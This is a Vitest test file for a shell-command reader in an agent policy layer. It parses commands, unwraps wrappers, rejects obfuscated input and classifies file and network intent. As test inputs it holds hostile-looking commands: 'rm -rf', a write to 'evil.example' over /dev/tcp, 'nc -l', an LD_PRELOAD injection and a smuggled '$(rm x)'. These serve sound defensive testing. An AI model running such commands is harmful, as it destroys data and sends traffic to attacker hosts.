import { beforeAll, describe, expect, it } from "vitest";
import { createShellReader, intentOf, type ShellReader } from "../../src/policy/index.ts";
import type { ShellReading, ShellSegment, ShellWord } from "../../src/policy/verdict.ts";

let reader: ShellReader;

beforeAll(async () => {
  reader = await createShellReader();
});

const shown = ({ text, literal }: ShellWord) => (literal ? text : `«${text}»`);

/** The commands of a reading as lines; a word known only when it runs stands in «…». */
function lines(reading: ShellReading): string[] {
  if (!reading.ok) return [`not read at ${reading.offset}: ${reading.reason}`];
  return reading.segments.map(({ words }) => words.map(shown).join(" "));
}

const commands = (text: string) => lines(reader.read(text));

function segment(text: string, at = 0): ShellSegment {
  const reading = reader.read(text);
  if (!reading.ok) throw new Error(reading.reason);
  return reading.segments[at]!;
}

describe("reading a shell text", () => {
  it("finds every command, wherever it stands [req:policy.shell-aware]", () => {
    const text = "git status && (rm -rf x; a | b) & for f in $(ls); do echo <(c); done; d() { e; }";
    expect(commands(text)).toEqual(["git status", "rm -rf x", "a", "b", "ls", "c", "echo «<(c)»", "e"]);
  });

  it("takes wrappers off, and keeps what they were [req:policy.shell-aware]", () => {
    const found = segment("timeout 5 env CI=1 nice bash -lc 'nohup git log | head' 2> err");
    expect(found.words.map(shown)).toEqual(["git", "log"]);
    expect(found.via).toEqual(["timeout", "env", "nice", "bash", "nohup"]);
    expect(found.wrappers.map((words) => words.map(shown).join(" "))).toEqual([
      "timeout 5 env CI=1 nice bash -lc nohup git log | head",
      "env CI=1 nice bash -lc nohup git log | head",
      "nice bash -lc nohup git log | head",
      "bash -lc nohup git log | head",
      "nohup git log",
    ]);
    expect(found.redirects).toEqual([{ mode: "write", target: { text: "err", literal: true } }]);
  });

  it("gives words their values, and knows which are known only later", () => {
    expect(commands(`a 'b c' "d e" f\\ g h'i'"j" $'k\\tl' {} a~b "~" '*' x=y`)).toEqual([
      "a b c d e f g hij k\tl {} a~b ~ * x=y",
    ]);
    expect(commands(`a $X "$X" \${X} $(b) \`c\` *.ts [ab] {a,b} {1..3} ~/x x=~/y $((1+1)) <(d)`).at(-1)).toBe(
      'a «$X» «"$X"» «${X}» «$(b)» «`c`» «*.ts» «[ab]» «{a,b}» «{1..3}» «~/x» «x=~/y» «$((1+1))» «<(d)»',
    );
  });

  it("tells what is set for a command, and of what may change programs [req:policy.shell-aware]", () => {
    expect(segment("LANG=C TZ=$Z sort x").assignments).toEqual([
      { name: "LANG", value: { text: "C", literal: true } },
      { name: "TZ", value: { text: "$Z", literal: false } },
    ]);
    expect(commands("LD_PRELOAD=x.so git status")).toEqual(["«LD_PRELOAD=x.so»", "git status"]);
    expect(commands("env -i GIT_DIR=x git status")).toEqual(["«GIT_DIR=x»", "git status"]);
    expect(commands("PATH=/tmp; ls")).toEqual(["«PATH=/tmp»", "ls"]);
  });

  it("reports redirects as reads and writes, and descriptors not at all", () => {
    const { redirects } = segment("a <in >out >>more 2>err &>all >|over 2>&1 <&0 >&- >& both");
    expect(redirects.map(({ mode, target }) => `${mode} ${target.text}`)).toEqual([
      "read in",
      "write out",
      "write more",
      "write err",
      "write all",
      "write over",
      "write both",
    ]);
    expect(segment("> out")).toMatchObject({ words: [{ text: ":" }], redirects: [{ mode: "write" }] });
  });

  it("runs nothing for tests, comments and harmless variables", () => {
    for (const text of ["", "# rm x", "X=1", "[ -f x ]", "[[ -n $x ]]", "export CI=1"])
      expect(commands(text)).toEqual([]);
  });
});

describe("a text that cannot be read", () => {
  it.each([
    ["a text no shell takes", "echo 'a"],
    ["a carriage return", "echo a\rb"],
    ["a control character", "echo a\u001b[2Kb"],
    ["a sign that turns text around", "echo \u202eab"],
    ["a joined word", "r\\\nm x"],
    ["an escaped blank that is no word", "\\ rm x"],
    ["a here-document with a made-up end", "cat <<'E'OF\nx\nE\nEOF"],
    ["quotes that shells end differently", "echo $'\\'; rm x; echo \\''"],
    ["too many commands", "true\n".repeat(600)],
    ["too many here-documents", "<<a\n".repeat(10_000)],
    ["brackets in brackets", `${"( ".repeat(10_000)}a${" )".repeat(10_000)}`],
    ["a pipe without end", `${"a|".repeat(30_000)}a`],
    ["redirects without end", `a${" >f".repeat(20_000)}`],
    ["too long a text", `echo ${"a".repeat(70_000)}`],
    ["too deep a text", Array.from({ length: 20 }).reduce<string>((inner) => `eval ${inner}`, "ls")],
  ])("is one with %s [req:policy.shell-differences]", (_, text) => {
    expect(reader.read(text)).toMatchObject({
      ok: false,
      reason: expect.any(String),
      offset: expect.any(Number),
    });
  });
});

describe("reading a list of words", () => {
  it("reads the text an agent gives a shell, without the shell [req:policy.shell-argv]", () => {
    const reading = reader.readArgv(["/bin/bash", "-lc", "git status && ls"]);
    expect(lines(reading)).toEqual(["git status", "ls"]);
    expect(reading.ok && reading.segments.every(({ via }) => via.length === 0)).toBe(true);
  });

  it("takes words as they are [req:policy.shell-argv]", () => {
    expect(lines(reader.readArgv(["echo", "$(rm x)", "a;b"]))).toEqual(["echo $(rm x) a;b"]);
    expect(lines(reader.readArgv(["env", "CI=1", "sh", "-c", "rm x"]))).toEqual(["rm x"]);
    expect(reader.readArgv([])).toMatchObject({ ok: false });
    expect(reader.readArgv(["a\0b"])).toMatchObject({ ok: false });
  });
});

describe("what a command intends", () => {
  const intent = (text: string) => {
    const { reads, writes, network } = intentOf(segment(text));
    return { reads: reads.map(shown), writes: writes.map(shown), network };
  };

  it.each([
    ["rm -rf a b", [], ["a", "b"]],
    ["touch -r a b", [], ["b"]],
    ["mkdir -p -m 700 a", [], ["a"]],
    ["cp -r a b c", ["a", "b"], ["c"]],
    ["cp -t c a b", ["a", "b"], ["c"]],
    ["mv a b", [], ["a", "b"]],
    ["sed -i s/a/b/ f g", [], ["f", "g"]],
    ["sed -n 1p f", ["f"], []],
    ["tee -a x y", [], ["x", "y"]],
    ["find a b -name c -delete", ["a", "b"], ["a", "b"]],
    ["find . -fprint out", ["."], ["out"]],
    ["tar czf a.tgz src", ["src"], ["a.tgz"]],
    ["tar -xf a.tar -C out", ["a.tar"], ["out"]],
    ["tar xf a.tar", ["a.tar"], ["."]],
    ["dd if=a of=b", ["a"], ["b"]],
    ["cat a < b > c 2>/dev/null", ["a", "b"], ["c"]],
    ["grep x a b", ["a", "b"], []],
    ["sort -o out in", ["in"], ["out"]],
    ["rm $X", [], ["«$X»"]],
    ["/bin/rm -- -f", [], ["-f"]],
    ["git checkout main", [], ["."]],
    ["git log", [], []],
  ])("%s: files [req:policy.intent]", (text, reads, writes) => {
    expect(intent(text)).toEqual({ reads, writes, network: false });
  });

  it.each([
    ["curl -sS https://user@api.example.com:8443/x", ["api.example.com"]],
    ["curl -x http://proxy https://a.example", true],
    ["curl $URL", true],
    ["wget -q http://a.example/b https://c.example", ["a.example", "c.example"]],
    ["ssh -p 22 me@host.example ls", ["host.example"]],
    ["ssh -J jump host.example", true],
    ["scp a.txt host.example:b", ["host.example"]],
    ["scp a b", false],
    ["ping -c 1 host.example", ["host.example"]],
    ["nc -l 80", ["80"]],
    ["gh pr list", true],
    ["git fetch", true],
    ["git clone https://github.com/o/r", ["github.com"]],
    ["git clone git@github.com:o/r", ["github.com"]],
    ["git status", false],
    ["npm install", true],
    ["npm test", false],
    ["echo x > /dev/tcp/evil.example/80", ["evil.example"]],
    ["make", false],
  ])("%s: network [req:policy.intent]", (text, network) => {
    expect(intent(text).network).toEqual(network);
  });
});
